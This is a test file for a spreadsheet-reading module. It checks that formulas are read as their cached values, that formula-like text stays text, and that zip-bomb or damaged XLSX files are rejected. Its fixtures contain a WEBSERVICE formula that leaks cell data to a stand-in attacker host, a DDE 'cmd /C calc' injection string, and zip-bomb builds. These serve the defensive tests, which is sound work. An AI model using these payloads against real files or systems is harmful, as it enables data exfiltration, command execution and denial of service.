import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { readProductSheet } from '../../src/core/templates/product-sheet'
import { readTable } from '../../src/core/files/read-table'
import { tempDir } from '../helpers/temp'
import { makeZip } from '../helpers/zip'

const MB = 1024 * 1024
const SHEET_XML = Buffer.from(
  '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
)

describe('a product sheet with formulas', () => {
  it('reads what each formula last showed, never the formula, and formula-like text as text', async () => {
    const path = join(await tempDir('sheet'), 'products.xlsx')
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('Products')
    sheet.addRow(['SKU', 'Brand', 'Keywords', 'Price', 'Note'])
    sheet.addRow([
      'MUG-1',
      { formula: 'HYPERLINK("http://evil.example","Acme")', result: 'Acme' },
      { formula: 'WEBSERVICE("http://evil.example/?leak="&A1)' }, // never calculated: no value
      { formula: '1+1', result: 2 },
      { error: '#REF!' }
    ])
    sheet.addRow(['MUG-2', '=HYPERLINK("http://evil.example","Beta")', "+cmd|' /C calc'!A0", 9, ''])
    await book.xlsx.writeFile(path)
    const { context: facts } = await readProductSheet(path)
    expect(facts['mug-1']).toEqual({ brand: 'Acme', price: '2' })
    // Text that looks like a formula is the user's text: it goes into the prompt as it is.
    expect(facts['mug-2']).toEqual({
      brand: '=HYPERLINK("http://evil.example","Beta")',
      keywords: "+cmd|' /C calc'!A0",
      price: '9'
    })
  })
})

describe('a zip-bomb XLSX', () => {
  it('refuses a sheet whose parts claim more than 250 MB before unpacking any', async () => {
    const path = join(await tempDir('sheet'), 'bomb.xlsx')
    // One 100 MB part of zeros (~100 KB packed), listed 30 times over the same bytes: 3 GB.
    const zeros = { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(100 * MB) }
    await writeFile(path, makeZip([{ name: '[Content_Types].xml', data: SHEET_XML }, zeros], 30))
    await expect(readTable(path)).rejects.toThrow(
      /^The file unpacks to 3,000 MB; Photoscribe unpacks sheets up to 250 MB \(a guard against zip bombs\)\.$/
    )
  })

  it('refuses a part that unpacks to more than its header claims', async () => {
    const path = join(await tempDir('sheet'), 'liar.xlsx')
    const liar = { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(100 * MB), claim: 1000 }
    await writeFile(path, makeZip([liar]))
    const before = process.memoryUsage().rss
    await expect(readProductSheet(path)).rejects.toThrow(
      'The file\'s part "xl/worksheets/sheet1.xml" unpacks to more than it claims (a zip bomb); it was not read.'
    )
    expect(process.memoryUsage().rss - before).toBeLessThan(50 * MB)
  })

  it('names a damaged or foreign file instead of crashing', async () => {
    const dir = await tempDir('sheet')
    await writeFile(join(dir, 'text.xlsx'), 'sku,brand\nMUG-1,Acme\n')
    await expect(readTable(join(dir, 'text.xlsx'))).rejects.toThrow(/not an XLSX/)
    const cut = makeZip([{ name: 'xl/worksheets/sheet1.xml', data: SHEET_XML }])
    await writeFile(join(dir, 'cut.xlsx'), Buffer.concat([cut.subarray(0, 20), cut.subarray(-22)]))
    await expect(readTable(join(dir, 'cut.xlsx'))).rejects.toThrow(/damaged/)
  })
})
